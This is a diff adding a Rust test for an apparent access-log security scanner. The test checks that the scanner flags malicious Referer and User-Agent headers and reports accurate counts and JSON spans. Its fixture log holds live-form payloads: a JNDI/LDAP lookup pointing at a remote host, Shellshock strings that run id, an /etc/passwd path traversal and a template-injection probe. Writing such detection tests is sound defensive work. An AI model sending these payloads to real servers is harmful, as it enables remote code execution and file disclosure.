@@ -163,6 +163,55 @@ fn json_lines_say_what_a_look_alike_imitates() {
     assert!(rows[1].get("imitates").is_none(), "{}", rows[1]);
 }
 
+/// The combined format's Referer is analysed as a URL and its
+/// User-Agent as text a server logs or hands to a CGI program; each
+/// flagged header is its own record after the request's, counted apart
+/// from the URLs.
+#[test]
+fn access_logs_referer_and_user_agent() {
+    let d = dir("headers");
+    let log = b"203.0.113.9 - - [10/Oct/2026:13:55:36 +0000] \"GET /a HTTP/1.1\" 200 12 \"https://evil.example/%2e%2e/etc/passwd\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n\
+203.0.113.9 - - [10/Oct/2026:13:55:37 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 12 \"() { :;}; echo; /usr/bin/id\" \"() { :; }; /bin/bash -c id\"\n\
+203.0.113.9 - - [10/Oct/2026:13:55:38 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"https://www.example.com/\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n\
+203.0.113.9 - - [10/Oct/2026:13:55:39 +0000] \"GET /%2e%2e/etc/passwd HTTP/1.1\" 404 - \"-\" \"Mozilla/5.0 {{7*7}}\"\n";
+    let f = write(&d.join("access.log"), log);
+    let out = scan().args(["scan", &f]).output().expect("run");
+    assert_eq!(out.status.code(), Some(1));
+    let stdout = String::from_utf8(out.stdout).expect("utf-8");
+    assert_eq!(
+        stdout,
+        format!(
+            "{f}:1: high path-traversal,sensitive-file: Referer: https://evil.example/%2e%2e/etc/passwd\n\
+             {f}:1: high jndi-lookup: User-Agent: ${{jndi:ldap://198.51.100.7:1389/a}}\n\
+             {f}:2: high shellshock: Referer: () {{ :;}}; echo; /usr/bin/id\n\
+             {f}:2: high shellshock: User-Agent: () {{ :; }}; /bin/bash -c id\n\
+             {f}:4: high path-traversal,sensitive-file: /%2e%2e/etc/passwd\n\
+             {f}:4: medium template-injection: User-Agent: Mozilla/5.0 {{{{7*7}}}}\n"
+        )
+    );
+    let stderr = String::from_utf8(out.stderr).expect("utf-8");
+    assert!(stderr.contains("4 URLs analysed, 1 flagged"), "{stderr}");
+    assert!(
+        stderr.contains(
+            "7 Referer and User-Agent headers read beside the request targets, 5 flagged"
+        ),
+        "{stderr}"
+    );
+    // JSON names the header; the spans point into its value.
+    let out = scan().args(["scan", "--json", &f]).output().expect("run");
+    let rows: Vec<serde_json::Value> = String::from_utf8(out.stdout)
+        .expect("utf-8")
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("json"))
+        .collect();
+    assert_eq!(rows.len(), 6);
+    assert_eq!(rows[1]["header"], "User-Agent");
+    assert_eq!(rows[1]["input"], "${jndi:ldap://198.51.100.7:1389/a}");
+    assert_eq!(rows[1]["warnings"][0]["span"], serde_json::json!([0, 34]));
+    assert_eq!(rows[0]["header"], "Referer");
+    assert!(rows[4].get("header").is_none(), "{}", rows[4]);
+}
+
 #[test]
 fn access_logs_of_every_common_format() {
     let d = dir("logs");
